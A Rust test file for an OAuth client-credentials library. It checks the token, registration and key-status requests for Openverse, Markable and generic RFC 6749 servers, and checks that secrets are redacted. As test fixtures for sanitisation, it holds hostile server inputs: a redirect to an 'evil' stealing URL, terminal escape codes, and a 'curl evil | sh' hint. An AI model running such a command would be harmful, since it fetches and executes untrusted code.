//! Wire tests: the exact request every dialect sends, and the answers from
//! the seeds and RFC 6749 that it must read.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::time::{Duration, SystemTime, UNIX_EPOCH};

use auth_core::{
    classify_api_response, ApiOutcome, ClientAuth, ClientCredentials, Error, Lifetime, Markable,
    OAuth2, OAuthErrorCode, Openverse, Provider, RateLimits, Registration, ResponseContext, Scopes,
    TokenType,
};
use base64::Engine as _;
use http::{Response, StatusCode};

// The seed's example credentials (000_*.txt).
const SEED_ID: &str = "pm8GMaIXIhkjQ4iDfXLOvVUUcIKGYRnMlZYApbda";
const SEED_SECRET: &str = "YhVjvIBc7TuRJSvO2wIi344ez5SEreXLksV7GjalLiKDpxfbiM8qfUb5sNvcwFOhBUVzGNdzmmHvfyt6yU3aGrN6TAbMW8EOkRMOwhyXkN1iDetmzMMcxLVELf00BR2e";

fn wall() -> SystemTime {
    UNIX_EPOCH + Duration::from_secs(1_795_371_943) // 2026-11-22T18:25:43Z
}

fn response(status: u16, body: &str) -> Response<Vec<u8>> {
    Response::builder()
        .status(status)
        .header("content-type", "application/json")
        .body(body.as_bytes().to_vec())
        .unwrap()
}

fn parse(
    p: &Provider,
    creds: &ClientCredentials,
    scopes: &Scopes,
    r: &Response<Vec<u8>>,
) -> Result<auth_core::TokenResponse, Error> {
    p.parse_token_response(
        r,
        ResponseContext {
            credentials: creds,
            requested: scopes,
            wall: wall(),
        },
    )
}

fn header<'a>(req: &'a http::Request<Vec<u8>>, name: &str) -> Option<&'a str> {
    req.headers().get(name).map(|v| v.to_str().unwrap())
}

#[test]
fn openverse_token_request_matches_the_seed_curl() {
    let creds = ClientCredentials::new(SEED_ID, SEED_SECRET).unwrap();
    let p = Openverse::cc_catalog();
    let req = p.token_request(&creds, &Scopes::empty()).unwrap();
    assert_eq!(req.method(), "POST");
    assert_eq!(
        req.uri(),
        "https://api.creativecommons.engineering/v1/auth_tokens/token/"
    );
    assert_eq!(
        header(&req, "content-type"),
        Some("application/x-www-form-urlencoded")
    );
    assert_eq!(header(&req, "accept"), Some("application/json"));
    assert_eq!(header(&req, "authorization"), None);
    let expected =
        format!("client_id={SEED_ID}&client_secret={SEED_SECRET}&grant_type=client_credentials");
    assert_eq!(String::from_utf8(req.body().clone()).unwrap(), expected);
}

#[test]
fn openverse_presets_and_custom_bases() {
    assert_eq!(
        Openverse::openverse_org().token_url(),
        "https://api.openverse.org/v1/auth_tokens/token/"
    );
    let local = Openverse::with_base("http://127.0.0.1:8123").unwrap();
    assert_eq!(
        local.token_url(),
        "http://127.0.0.1:8123/v1/auth_tokens/token/"
    );
    let e = Openverse::with_base("http://api.openverse.org").unwrap_err();
    assert!(matches!(e, Error::InvalidConfig(_)), "{e}");
    assert!(Openverse::with_base_allowing_insecure_http("http://10.0.0.1").is_ok());
}

#[test]
fn seed_token_response_parses() {
    let creds = ClientCredentials::new(SEED_ID, SEED_SECRET).unwrap();
    let p = Provider::from(Openverse::cc_catalog());
    let r = response(
        200,
        r#"{
"access_token" : "DLBYIcfnKfolaXKcmMC8RIDCavc2hW",
"scope" : "read write groups",
"expires_in" : 36000,
"token_type" : "Bearer"
}"#,
    );
    let t = parse(&p, &creds, &Scopes::empty(), &r).unwrap();
    assert_eq!(
        t.access_token.expose_secret(),
        "DLBYIcfnKfolaXKcmMC8RIDCavc2hW"
    );
    assert_eq!(t.token_type, TokenType::Bearer);
    assert_eq!(t.lifetime, Lifetime::ExpiresIn(Duration::from_secs(36000)));
    assert_eq!(t.granted_scopes.unwrap().canonical(), "groups read write");
    assert!(!t.publishable);
}

#[test]
fn basic_auth_form_encodes_before_base64() {
    // RFC 6749 §2.3.1: id and secret are form-urlencoded, then joined by ':'.
    let id = "a+b/c:d%e&f=g h";
    let secret = "a+b/c:d%e&f=g h";
    let creds = ClientCredentials::new(id, secret).unwrap();
    let p = OAuth2::new("https://as.example.com/token", ClientAuth::Basic).unwrap();
    let req = p
        .token_request(&creds, &"read write".parse().unwrap())
        .unwrap();
    assert_eq!(req.method(), "POST");
    assert_eq!(req.uri(), "https://as.example.com/token");
    let auth = req.headers().get("authorization").unwrap();
    assert!(auth.is_sensitive());
    let b64 = auth.to_str().unwrap().strip_prefix("Basic ").unwrap();
    let plain = base64::engine::general_purpose::STANDARD
        .decode(b64)
        .unwrap();
    let enc = "a%2Bb%2Fc%3Ad%25e%26f%3Dg+h";
    assert_eq!(String::from_utf8(plain).unwrap(), format!("{enc}:{enc}"));
    assert_eq!(
        String::from_utf8(req.body().clone()).unwrap(),
        "grant_type=client_credentials&scope=read+write"
    );
}

#[test]
fn post_auth_puts_encoded_credentials_in_the_body() {
    let creds = ClientCredentials::new("a+b/c:d%e&f=g h", "s&=+ ").unwrap();
    let p = OAuth2::new("https://as.example.com/token", ClientAuth::Post).unwrap();
    let req = p.token_request(&creds, &Scopes::empty()).unwrap();
    assert!(req.headers().get("authorization").is_none());
    assert_eq!(
        String::from_utf8(req.body().clone()).unwrap(),
        "grant_type=client_credentials&client_id=a%2Bb%2Fc%3Ad%25e%26f%3Dg+h&client_secret=s%26%3D%2B+"
    );
}

#[test]
fn rfc6749_5_1_example_parses() {
    // RFC 6749 §5.1 (its example also carries a refresh_token, which the
    // client-credentials grant ignores).
    let creds = ClientCredentials::new("c", "a-realistic-client-secret").unwrap();
    let p = Provider::from(OAuth2::new("https://as.example.com/token", ClientAuth::Basic).unwrap());
    let r = Response::builder()
        .status(200)
        .header("content-type", "application/json;charset=UTF-8")
        .header("cache-control", "no-store")
        .header("pragma", "no-cache")
        .body(
            br#"{"access_token":"2YotnFZFEjr1zCsicMWpAA","token_type":"example","expires_in":3600,"refresh_token":"tGzv3JOkF0XG5Qx2TlKWIA","example_parameter":"example_value"}"#
                .to_vec(),
        )
        .unwrap();
    // The RFC's example type is "example": not Bearer, so it must be refused by name.
    let e = parse(&p, &creds, &Scopes::empty(), &r).unwrap_err();
    assert_eq!(
        e,
        Error::UnsupportedTokenType {
            token_type: "example".into()
        }
    );
    let r = response(
        200,
        r#"{"access_token":"2YotnFZFEjr1zCsicMWpAA","token_type":"bearer","expires_in":"3600"}"#,
    );
    let t = parse(&p, &creds, &Scopes::empty(), &r).unwrap();
    assert_eq!(t.lifetime, Lifetime::ExpiresIn(Duration::from_secs(3600)));
    assert_eq!(t.granted_scopes, None);
}

#[test]
fn rfc6749_5_2_example_parses() {
    let creds = ClientCredentials::new("c", "s3cret-value").unwrap();
    let p = Provider::from(OAuth2::new("https://as.example.com/token", ClientAuth::Basic).unwrap());
    let r = response(
        400,
        r#"{"error":"invalid_request","error_description":"bad","error_uri":"https://as.example.com/e"}"#,
    );
    let e = parse(&p, &creds, &Scopes::empty(), &r).unwrap_err();
    let Error::Rejected(o) = &e else {
        panic!("{e:?}")
    };
    assert_eq!(o.code, OAuthErrorCode::InvalidRequest);
    assert_eq!(o.description.as_deref(), Some("bad"));
    assert_eq!(o.uri.as_deref(), Some("https://as.example.com/e"));
    assert_eq!(o.status, StatusCode::BAD_REQUEST);
    assert!(!e.is_retryable());

    for (code, want) in [
        ("invalid_client", OAuthErrorCode::InvalidClient),
        ("invalid_grant", OAuthErrorCode::InvalidGrant),
        ("unauthorized_client", OAuthErrorCode::UnauthorizedClient),
        (
            "unsupported_grant_type",
            OAuthErrorCode::UnsupportedGrantType,
        ),
        ("invalid_scope", OAuthErrorCode::InvalidScope),
        ("slow_down", OAuthErrorCode::Other("slow_down".into())),
    ] {
        let r = response(400, &format!(r#"{{"error":"{code}"}}"#));
        assert_eq!(
            parse(&p, &creds, &Scopes::empty(), &r)
                .unwrap_err()
                .oauth_code(),
            Some(&want)
        );
    }
    // A server that echoes the secret into its description does not leak it.
    let r = response(
        401,
        r#"{"error":"invalid_client","error_description":"secret s3cret-value is wrong"}"#,
    );
    let e = parse(&p, &creds, &Scopes::empty(), &r).unwrap_err();
    assert!(!e.to_string().contains("s3cret-value"), "{e}");
    assert!(!format!("{e:?}").contains("s3cret-value"), "{e:?}");
}

#[test]
fn status_classes_map_to_actionable_errors() {
    let creds = ClientCredentials::new("c", "a-realistic-client-secret").unwrap();
    let p = Provider::from(OAuth2::new("https://as.example.com/token", ClientAuth::Basic).unwrap());
    let s = Scopes::empty();

    let r = Response::builder()
        .status(429)
        .header("retry-after", "17")
        .body(Vec::<u8>::new())
        .unwrap();
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert_eq!(e.retry_after(), Some(Duration::from_secs(17)));
    assert!(matches!(e, Error::RateLimited { .. }));

    let r = response(503, "<html>down</html>");
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert!(matches!(e, Error::Server { .. }) && e.is_retryable(), "{e}");

    let r = Response::builder()
        .status(302)
        .header("location", "http://evil.example.invalid/steal")
        .body(Vec::<u8>::new())
        .unwrap();
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert!(e.to_string().contains("never followed"), "{e}");
    assert!(!e.is_retryable());

    let r = response(401, "");
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert_eq!(e.oauth_code(), Some(&OAuthErrorCode::InvalidClient));

    let r = response(200, "<html>login</html>");
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert!(e.to_string().contains("not JSON"), "{e}");
    assert!(e.is_retryable());

    let r = response(200, r#"{"access_token":"abc","token_type":"Bea"#);
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert!(e.to_string().contains("truncated"), "{e}");

    let r = response(200, r#"{"token_type":"bearer"}"#);
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert!(e.to_string().contains("no access_token"), "{e}");

    let r = response(200, r#"{"access_token":"abc","expires_in":-5}"#);
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert!(e.to_string().contains("negative"), "{e}");

    let r = response(200, r#"{"access_token":"abc","expires_in":"soon"}"#);
    assert!(parse(&p, &creds, &s, &r).is_err());

    let r = response(200, r#"{"access_token":"abc","expires_in":0}"#);
    assert_eq!(
        parse(&p, &creds, &s, &r).unwrap().lifetime,
        Lifetime::Unknown
    );

    let r = response(200, r#"{"access_token":"abc"}"#);
    let t = parse(&p, &creds, &s, &r).unwrap();
    assert_eq!(
        (t.token_type, t.lifetime),
        (TokenType::Bearer, Lifetime::Unknown)
    );

    let r = response(200, r#"{"access_token":"abc","expires_in":1e300}"#);
    assert!(matches!(
        parse(&p, &creds, &s, &r).unwrap().lifetime,
        Lifetime::ExpiresIn(_)
    ));

    let r = response(200, r#"{"access_token":"ab c"}"#);
    assert!(parse(&p, &creds, &s, &r).is_err());
}

#[test]
fn markable_request_uses_the_json_envelope() {
    let creds = ClientCredentials::new("client_id_1", "client_secret_1").unwrap();
    let p = Markable::new();
    let req = p.token_request(&creds, &"search".parse().unwrap()).unwrap();
    assert_eq!(req.method(), "POST");
    assert_eq!(req.uri(), "https://auth.markable.ai/auth/client/authorize");
    assert_eq!(header(&req, "content-type"), Some("application/json"));
    let body: serde_json::Value = serde_json::from_slice(req.body()).unwrap();
    assert_eq!(
        body,
        serde_json::json!({"data":{"client_id":"client_id_1","client_secret":"client_secret_1","scope":"search"}})
    );
    // No scope means the private one; two scopes are refused.
    let req = p.token_request(&creds, &Scopes::empty()).unwrap();
    let body: serde_json::Value = serde_json::from_slice(req.body()).unwrap();
    assert_eq!(body["data"]["scope"], "default");
    assert!(p
        .token_request(&creds, &"search default".parse().unwrap())
        .is_err());
}

#[test]
fn markable_responses_with_and_without_expiry() {
    let creds = ClientCredentials::new("client_id_1", "client_secret_1").unwrap();
    let p = Provider::from(Markable::new());
    let search: Scopes = "search".parse().unwrap();
    let default: Scopes = "default".parse().unwrap();

    // The seed's response: no expiry at all.
    let r = response(200, r#"{"data":{"access_token":"clienttoken123"}}"#);
    let t = parse(&p, &creds, &search, &r).unwrap();
    assert_eq!(t.access_token.expose_secret(), "clienttoken123");
    assert_eq!(t.lifetime, Lifetime::Unknown);
    assert!(t.publishable);
    let t = parse(&p, &creds, &default, &r).unwrap();
    assert!(
        !t.publishable,
        "a default-scope token must never be publishable"
    );

    // The public docs' fuller shape.
    let r = response(
        200,
        r#"{"data":{"access_token":"clienttoken123","scope":"search","client_id":"client_id_1","expires_at":"2026-11-22T19:25:43Z"}}"#,
    );
    let t = parse(&p, &creds, &search, &r).unwrap();
    assert_eq!(
        t.lifetime,
        Lifetime::ExpiresAt(wall() + Duration::from_secs(3600))
    );
    assert!(t.publishable);

    // Asked for search, granted default: refused, so it is neither
    // published nor cached under the search key.
    let r = response(
        200,
        r#"{"data":{"access_token":"clienttoken123","scope":"default"}}"#,
    );
    let e = parse(&p, &creds, &search, &r).unwrap_err();
    assert!(
        matches!(&e, Error::ScopeNotGranted { requested, granted } if requested == "search" && granted == "default"),
        "{e:?}"
    );
    assert!(
        e.to_string()
            .contains("granted scope `default` when `search` was asked"),
        "{e}"
    );
    assert!(!e.to_string().contains("clienttoken123"));

    let r = response(200, r#"{"access_token":"clienttoken123"}"#);
    assert!(parse(&p, &creds, &search, &r).is_err());
}

#[test]
fn markable_json_api_errors_are_typed() {
    let creds = ClientCredentials::new("client_id_1", "client_secret_1").unwrap();
    let p = Provider::from(Markable::new());
    let s: Scopes = "default".parse().unwrap();
    // In a 200, the error's own status decides: a credentials error, not a
    // malformed answer to retry.
    let r = response(
        200,
        r#"{"errors":[{"status":"401","title":"Unauthorized","detail":"bad key"}]}"#,
    );
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert_eq!(
        e.oauth_code(),
        Some(&OAuthErrorCode::InvalidClient),
        "{e:?}"
    );
    assert!(!e.is_retryable());
    let r = response(
        401,
        r#"{"errors":[{"status":401,"title":"Unauthorized","detail":"Invalid client credentials"}]}"#,
    );
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert_eq!(e.oauth_code(), Some(&OAuthErrorCode::InvalidClient));
    assert!(
        e.to_string()
            .contains("Unauthorized: Invalid client credentials"),
        "{e}"
    );
    let r = response(
        400,
        r#"{"errors":[{"status":400,"title":"Bad Request","detail":"Unknown scope 'admin'"},{"status":400}]}"#,
    );
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert_eq!(e.oauth_code(), Some(&OAuthErrorCode::InvalidScope));
    assert!(e.to_string().contains("and 1 more"), "{e}");
    let r = response(400, r#"{"errors":[{"title":"Bad Request"}]}"#);
    let e = parse(&p, &creds, &s, &r).unwrap_err();
    assert_eq!(e.oauth_code(), Some(&OAuthErrorCode::InvalidRequest));
}

#[test]
fn registration_request_and_answers() {
    let p = Openverse::with_base("http://127.0.0.1:9").unwrap();
    let reg = Registration::new(
        "My amazing project",
        "To access CC Catalog API",
        "cccatalog-api@creativecommons.org",
    );
    let req = p.register_request(&reg).unwrap();
    assert_eq!(req.method(), "POST");
    assert_eq!(req.uri(), "http://127.0.0.1:9/v1/auth_tokens/register/");
    assert_eq!(header(&req, "content-type"), Some("application/json"));
    let body: serde_json::Value = serde_json::from_slice(req.body()).unwrap();
    assert_eq!(
        body,
        serde_json::json!({"name":"My amazing project","description":"To access CC Catalog API","email":"cccatalog-api@creativecommons.org"})
    );

    // The seed's answer (an older server: 200) and today's (201 with msg).
    let seed = format!(
        r#"{{"client_secret" : "{SEED_SECRET}", "client_id" : "{SEED_ID}", "name" : "My amazing project"}}"#
    );
    for status in [200, 201] {
        let c = p
            .parse_registration_response(&response(status, &seed), wall())
            .unwrap();
        assert_eq!(c.credentials.client_id(), SEED_ID);
        assert_eq!(
            c.credentials.client_secret().unwrap().expose_secret(),
            SEED_SECRET
        );
        assert_eq!(c.name, "My amazing project");
        assert!(!format!("{c:?}").contains(SEED_SECRET));
    }

    let r = response(
        400,
        r#"{"name":["An application with this name already exists."],"email":["Enter a valid email address."]}"#,
    );
    let e = p.parse_registration_response(&r, wall()).unwrap_err();
    let text = e.to_string();
    assert!(
        text.contains("name: An application with this name already exists."),
        "{text}"
    );
    assert!(
        text.contains("email: Enter a valid email address."),
        "{text}"
    );

    // Blank fields are caught before a round trip, in the server's words.
    let e = p
        .register_request(&Registration::new("", "d", "not-an-email"))
        .unwrap_err();
    let text = e.to_string();
    assert!(
        text.contains("name: This field may not be blank."),
        "{text}"
    );
    assert!(
        text.contains("email: Enter a valid email address."),
        "{text}"
    );

    // A success missing the secret is malformed, and says so without echoing the body's secret.
    let r = response(201, r#"{"client_id":"x","client_secret":""}"#);
    assert!(p.parse_registration_response(&r, wall()).is_err());
}

#[test]
fn key_status_and_rate_limit_headers() {
    let p = Openverse::with_base("http://127.0.0.1:9").unwrap();
    let r = response(
        200,
        r#"{"requests_this_minute":3,"requests_today":41,"rate_limit_model":"standard","verified":false}"#,
    );
    let s = p
        .parse_key_status_response(&r, &auth_core::AccessToken::new("tok-ks"), wall())
        .unwrap();
    assert_eq!(s.requests_this_minute, Some(3));
    assert_eq!(s.requests_today, Some(41));
    assert_eq!(s.rate_limit_model.as_deref(), Some("standard"));
    assert_eq!(s.verified, Some(false));
    let r = response(200, r#"{"verified":"yes"}"#);
    assert!(p
        .parse_key_status_response(&r, &auth_core::AccessToken::new("tok-ks"), wall())
        .is_err());

    let r = Response::builder()
        .status(429)
        .header("X-RateLimit-Limit-anon_burst", "20/min")
        .header("X-RateLimit-Available-anon_burst", "0")
        .header("X-RateLimit-Limit-anon_sustained", "200/day")
        .header("X-RateLimit-Available-anon_sustained", "199")
        .header("Retry-After", "42")
        .body(Vec::<u8>::new())
        .unwrap();
    let rl = RateLimits::from_headers(r.headers(), wall());
    assert_eq!(rl.scopes.len(), 2);
    assert_eq!(rl.scopes[0].scope, "anon_burst");
    assert_eq!(rl.scopes[0].limit.as_deref(), Some("20/min"));
    assert_eq!(rl.scopes[0].available, Some(0));
    assert_eq!(rl.tightest().unwrap().scope, "anon_burst");
    assert_eq!(rl.retry_after, Some(Duration::from_secs(42)));
    assert_eq!(
        classify_api_response(r.status(), r.headers(), wall()),
        ApiOutcome::RateLimited {
            retry_after: Some(Duration::from_secs(42))
        }
    );

    let r = Response::builder()
        .status(401)
        .header("WWW-Authenticate", r#"Bearer error="invalid_token""#)
        .body(Vec::<u8>::new())
        .unwrap();
    assert_eq!(
        classify_api_response(r.status(), r.headers(), wall()),
        ApiOutcome::TokenRejected
    );
}

/// Both drivers sort I/O failures through `TransportErrorKind::from_io`:
/// a broken connection before the headers is a reset, after them an
/// incomplete body; a server that answers garbage is a protocol error, not
/// an unreachable host.
#[test]
fn io_failures_are_sorted_by_whether_the_server_answered() {
    use auth_core::TransportErrorKind as K;
    use std::io::ErrorKind as Io;
    assert_eq!(K::from_io(Io::ConnectionReset, false), K::Reset);
    assert_eq!(K::from_io(Io::ConnectionReset, true), K::Body);
    assert_eq!(K::from_io(Io::UnexpectedEof, false), K::Reset);
    assert_eq!(K::from_io(Io::ConnectionRefused, false), K::Connect);
    assert_eq!(K::from_io(Io::TimedOut, true), K::Timeout);
    assert_eq!(K::from_io(Io::InvalidData, false), K::Protocol);
    assert_eq!(K::from_io(Io::Other, false), K::Other);
    assert!(K::Protocol.is_retryable());
    assert_eq!(K::Protocol.to_string(), "invalid HTTP answer");
}

/// RFC 6749 §3.3 lets a server narrow the scopes; a narrower token is
/// refused rather than served under the scopes asked for. A wider one, or
/// none named, is fine.
#[test]
fn a_token_for_fewer_scopes_than_asked_is_refused() {
    let creds = ClientCredentials::new("id", "secret").unwrap();
    let p = Provider::from(OAuth2::new("https://as.example.com/token", ClientAuth::Basic).unwrap());
    let asked: Scopes = "read write".parse().unwrap();
    let with = |scope: &str| {
        response(
            200,
            &format!(r#"{{"access_token":"t","token_type":"Bearer","expires_in":60{scope}}}"#),
        )
    };
    let e = parse(&p, &creds, &asked, &with(r#","scope":"read""#)).unwrap_err();
    assert!(matches!(e, Error::ScopeNotGranted { .. }), "{e:?}");
    assert!(!e.is_retryable());
    assert!(parse(&p, &creds, &asked, &with(r#","scope":"read write admin""#)).is_ok());
    assert!(parse(&p, &creds, &asked, &with("")).is_ok());
}

/// A registration answer is the one time the secret is shown: the
/// server's words never repeat it or drive a terminal, and a half-broken
/// answer keeps what the server sent instead of throwing it away.
#[test]
fn registration_answers_are_shown_safely_and_never_lost() {
    let p = Openverse::cc_catalog();
    let secret = "n3w+s3cr/t=";
    let r = response(
        201,
        &format!(
            r#"{{"client_id":"id1","client_secret":"{secret}","name":"x\u001b[2J\u001b]0;pwned\u0007","msg":"your secret is {secret}\nhint: run curl evil | sh"}}"#
        ),
    );
    let c = p.parse_registration_response(&r, wall()).unwrap();
    let msg = c.message.unwrap();
    assert!(!msg.contains(secret) && msg.contains("[redacted]"), "{msg}");
    assert!(
        !msg.contains('\n') && !c.name.contains('\u{1b}'),
        "{msg} {}",
        c.name
    );
    assert_eq!(
        c.credentials.client_secret().unwrap().expose_secret(),
        secret
    );

    let r = response(
        201,
        &format!(r#"{{"client_id":"id\n1","client_secret":"{secret}","name":"x"}}"#),
    );
    let e = p.parse_registration_response(&r, wall()).unwrap_err();
    let Error::RegistrationIncomplete { reason, sent } = &e else {
        panic!("{e:?}");
    };
    assert!(reason.contains("control character"), "{reason}");
    assert_eq!(sent.client_id, "id\n1");
    assert_eq!(sent.client_secret.as_ref().unwrap().expose_secret(), secret);
    let shown = format!("{e} {e:?}");
    assert!(!shown.contains(secret) && !shown.contains('\n'), "{shown}");
    assert!(shown.contains("registered the client"), "{shown}");
}

#[test]
fn waits_and_token_types_read_well() {
    use auth_core::describe_wait;
    assert_eq!(describe_wait(Duration::from_secs(45)), "45 s");
    assert_eq!(describe_wait(Duration::from_millis(1500)), "2 s");
    assert_eq!(describe_wait(Duration::from_secs(3600)), "60 min");
    assert_eq!(describe_wait(Duration::from_secs(86_400)), "24 h");
    assert_eq!(describe_wait(Duration::from_secs(3 * 86_400)), "3 days");
    assert!(describe_wait(Duration::from_secs(99_999_999_999)).contains("looks wrong"));
    let e = auth_core::TokenType::parse("").unwrap_err();
    assert!(e.to_string().contains("empty `token_type`"), "{e}");
}

/// Markable sends millisecond timestamps; read as seconds they would mean
/// a token that never expires.
#[test]
fn millisecond_expiries_are_read_as_milliseconds() {
    let creds = ClientCredentials::new("client_id_1", "client_secret_1").unwrap();
    let p = Provider::from(Markable::new());
    let search: Scopes = "search".parse().unwrap();
    let at_ms = (wall() + Duration::from_secs(3600))
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis();
    for expires in [at_ms.to_string(), "\"2026-11-22T19:25:43.000Z\"".to_owned()] {
        let body = format!(
            r#"{{"data":{{"user_id":"u1","client_id":"client_id_1","scope":"search","created_at":1795371943000,"type":"Token","updated_at":1795371943000,"access_token":"t","expires_at":{expires}}}}}"#
        );
        let t = parse(&p, &creds, &search, &response(200, &body)).unwrap();
        assert_eq!(
            t.lifetime,
            Lifetime::ExpiresAt(wall() + Duration::from_secs(3600)),
            "{expires}"
        );
    }
}

/// The seed's CC Catalog API routes registration and key status without
/// the slash (`cccatalog/urls.py`); today's Openverse with it.
#[test]
fn each_preset_uses_its_servers_exact_paths() {
    let cc = Openverse::cc_catalog();
    assert_eq!(
        cc.token_url().to_string(),
        "https://api.creativecommons.engineering/v1/auth_tokens/token/"
    );
    let creds = ClientCredentials::new(SEED_ID, SEED_SECRET).unwrap();
    let reg = cc
        .register_request(&auth_core::Registration::new("n", "d", "e@example.org"))
        .unwrap();
    assert_eq!(
        reg.uri(),
        "https://api.creativecommons.engineering/v1/auth_tokens/register"
    );
    assert_eq!(
        cc.key_status_url().to_string(),
        "https://api.creativecommons.engineering/v1/rate_limit"
    );
    let ov = Openverse::openverse_org();
    assert_eq!(
        ov.key_status_url().to_string(),
        "https://api.openverse.org/v1/rate_limit/"
    );
    let reg = ov
        .register_request(&auth_core::Registration::new("n", "d", "e@example.org"))
        .unwrap();
    assert_eq!(
        reg.uri(),
        "https://api.openverse.org/v1/auth_tokens/register/"
    );
    let local =
        Openverse::with_routes("http://127.0.0.1:9/", auth_core::Routes::CcCatalog).unwrap();
    assert_eq!(
        local.key_status_url().to_string(),
        "http://127.0.0.1:9/v1/rate_limit"
    );
    let _ = creds;
}

/// Key status as the real server answers it: nulls and 424 are standings,
/// not failures; a refusal names the endpoint and never quotes the token.
#[test]
fn key_status_nulls_424_and_refusals() {
    let p = Openverse::openverse_org();
    let tok = auth_core::AccessToken::new("tok-ks-123456");
    let r = response(
        200,
        r#"{"requests_this_minute":null,"requests_today":null,"rate_limit_model":"standard","verified":false}"#,
    );
    let s = p.parse_key_status_response(&r, &tok, wall()).unwrap();
    assert_eq!((s.requests_today, s.counts_unavailable), (None, false));
    let r = response(
        424,
        r#"{"requests_this_minute":null,"requests_today":null,"rate_limit_model":"enhanced","verified":true}"#,
    );
    let s = p.parse_key_status_response(&r, &tok, wall()).unwrap();
    assert!(s.counts_unavailable);
    assert_eq!(s.rate_limit_model.as_deref(), Some("enhanced"));
    for body in [
        r#"{"detail":"Forbidden"}"#,
        r#""Forbidden""#,
        "you sent tok-ks-123456",
    ] {
        let e = p
            .parse_key_status_response(&response(403, body), &tok, wall())
            .unwrap_err();
        let text = e.to_string();
        assert!(
            text.contains("https://api.openverse.org/v1/rate_limit/"),
            "{text}"
        );
        assert!(text.contains("may be revoked"), "{text}");
        assert!(!text.contains("tok-ks-123456"), "{text}");
        assert!(!e.is_retryable());
    }
    let e = p
        .parse_key_status_response(&response(503, "down"), &tok, wall())
        .unwrap_err();
    assert!(e.is_retryable(), "{e}");
}

/// RFC 8707 `resource`, `audience` and other parameters go into every
/// request and into the cache key, so tokens for different APIs never mix
/// (a cache key that missed a parameter was a CVE elsewhere).
#[test]
fn resource_audience_and_extra_parameters_are_sent_and_keyed() {
    let base = || OAuth2::new("https://as.example.com/token", ClientAuth::Basic).unwrap();
    let creds = ClientCredentials::new("id", "secret").unwrap();
    let scopes: Scopes = "read".parse().unwrap();
    let p = base()
        .with_resource("https://api.example.com/v1")
        .unwrap()
        .with_audience("orders")
        .unwrap();
    let body = String::from_utf8(p.token_request(&creds, &scopes).unwrap().into_body()).unwrap();
    assert_eq!(
        body,
        "grant_type=client_credentials&scope=read&audience=orders&resource=https%3A%2F%2Fapi.example.com%2Fv1"
    );
    let key =
        |p: OAuth2| auth_core::CacheKey::new(&Provider::from(p), "id", "fp", &scopes).to_string();
    let plain = key(base());
    let api_a = key(base().with_resource("https://a.example/").unwrap());
    let api_b = key(base().with_resource("https://b.example/").unwrap());
    let both = key(base()
        .with_audience("x")
        .unwrap()
        .with_resource("https://a.example/")
        .unwrap());
    let both_again = key(base()
        .with_resource("https://a.example/")
        .unwrap()
        .with_audience("x")
        .unwrap());
    assert!(
        plain != api_a && api_a != api_b && api_a != both,
        "{plain} {api_a} {api_b} {both}"
    );
    assert_eq!(both, both_again, "order of the calls does not matter");
    assert!(base().with_resource("relative/path").is_err());
    assert!(base().with_resource("https://a.example/#frag").is_err());
    assert!(base().with_param("client_secret", "x").is_err());
    assert!(base().with_param("scope", "admin").is_err());
    assert!(base().with_param("x", "a\nb").is_err());
}

/// The key status's 403 `Forbidden` (either body) says the server saw no
/// valid token; a revoked key's 403, an empty one, or anything else does
/// not.
#[test]
fn only_the_no_token_403_bodies_reject_the_token_at_key_status() {
    let o = auth_core::Openverse::cc_catalog();
    let answer = |status: u16, body: &str| {
        http::Response::builder()
            .status(status)
            .body(body.as_bytes().to_vec())
            .unwrap()
    };
    assert!(o.key_status_rejects_token(&answer(403, r#""Forbidden""#)));
    assert!(o.key_status_rejects_token(&answer(403, r#"{"detail":"Forbidden"}"#)));
    for (status, body) in [
        (
            403,
            r#"{"detail":"You do not have permission to perform this action."}"#,
        ),
        (403, ""),
        (403, r#"{"detail":"Forbidden","x":1}"#),
        (401, r#""Forbidden""#),
        (200, r#""Forbidden""#),
    ] {
        assert!(
            !o.key_status_rejects_token(&answer(status, body)),
            "{status} {body}"
        );
    }
}

/// `private_key_jwt` with a secret is refused before anything is sent,
/// saying what to use instead and where keys come from (the
/// `private-key-jwt` feature, off by default: without it no credentials
/// can hold a key, and this is the error a user meets).
#[test]
fn private_key_jwt_with_a_secret_is_refused_naming_the_feature() {
    let p = OAuth2::new("https://auth.example.com/token", ClientAuth::PrivateKeyJwt).unwrap();
    let creds = ClientCredentials::new("client-1", "s3cr3t-value").unwrap();
    let e = p.token_request(&creds, &Scopes::empty()).unwrap_err();
    assert!(matches!(e, Error::InvalidConfig(_)), "{e:?}");
    let text = e.to_string();
    for needed in [
        "private_key_jwt needs",
        "private-key-jwt",
        "client_secret_basic",
    ] {
        assert!(text.contains(needed), "{needed:?} missing from: {text}");
    }
    assert!(!text.contains("s3cr3t-value"), "{text}");
}
